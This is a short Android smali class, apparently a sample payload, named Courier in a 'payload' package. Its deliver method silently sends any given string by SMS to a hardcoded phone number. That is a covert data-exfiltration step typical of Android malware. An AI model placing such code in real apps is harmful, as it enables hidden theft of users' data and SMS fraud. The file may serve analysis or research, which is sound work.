.class public Lcom/dexlego/payload/Courier;
.super Ljava/lang/Object;
.source "Courier.java"

.method public constructor <init>()V
    .registers 1
    invoke-direct {p0}, Ljava/lang/Object;-><init>()V
    return-void
.end method

.method public deliver(Ljava/lang/String;)V
    .registers 8
    invoke-static {}, Landroid/telephony/SmsManager;->getDefault()Landroid/telephony/SmsManager;
    move-result-object v0
    const-string v1, "+4915112345678"
    const/4 v2, 0x0
    const/4 v4, 0x0
    const/4 v5, 0x0
    move-object v3, p1
    invoke-virtual/range {v0 .. v5}, Landroid/telephony/SmsManager;->sendTextMessage(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Landroid/app/PendingIntent;Landroid/app/PendingIntent;)V
    return-void
.end method
